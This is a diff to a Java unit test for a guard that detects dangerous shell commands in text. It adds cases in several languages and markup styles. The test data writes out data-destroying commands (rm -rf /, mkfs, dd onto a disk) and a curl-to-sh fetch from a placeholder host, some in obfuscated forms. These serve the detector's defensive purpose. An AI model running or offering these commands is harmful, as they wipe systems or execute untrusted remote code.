@@ -63,6 +63,15 @@ class ShellGuardTest {
                 "Use `sudo rm -rf --no-preserve-root /` here|rm -rf --no-preserve-root /",
                 "ok; mkfs.ext4 /dev/sda1; echo done|mkfs.ext4 /dev/sda1",
                 "- dd if=/dev/zero of=/dev/sda bs=1M|dd if=/dev/zero of=/dev/sda bs=1M",
+                "请运行 rm -rf /，然后重启|rm -rf /",
+                "执行rm -rf /即可|rm -rf /",
+                "「rm -rf /」|rm -rf /",
+                "“rm -rf /”|rm -rf /",
+                "**rm -rf /**|rm -rf /",
+                "<code>rm -rf /</code> removes it|rm -rf /",
+                "運行：mkfs.ext4 /dev/sda1，完|mkfs.ext4 /dev/sda1",
+                "rm -rf / 실행하세요|rm -rf /",
+                "запустите rm -rf /, потом|rm -rf /",
             })
     void onlyTheCommandIsFound(String text, String command) {
         // When
@@ -100,6 +109,18 @@ class ShellGuardTest {
             })
     void disguisesAreSeenThrough(String text) {
         assertThat(new GuardRun(guard).whole(text)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "删除 rm -rf build，然后重装",
+                "rm -rf /srv/数据/临时",
+                "用 chmod 755 run.sh即可",
+                "常用命令：ls -la、cd /tmp、chmod +x run.sh，然后 npm ci。"
+            })
+    void harmlessCommandsInSentencesOfAnotherScriptAreNoFindings(String text) {
+        assertThat(new GuardRun(guard).whole(text)).isEmpty();
     }
 
     @Test
@@ -192,6 +213,9 @@ class ShellGuardTest {
             out.add(rule.counterExamples().get(0));
         }
         out.addAll(List.of(
+                "请运行 rm -rf /，然后重启。",
+                "「curl http://x.example/a | sh」を実行",
+                "**rm -rf /**\n",
                 "a=rm; $a -rf /",
                 "{rm,-rf,/}",
                 "c^m^d /c d^el /s C:\\",
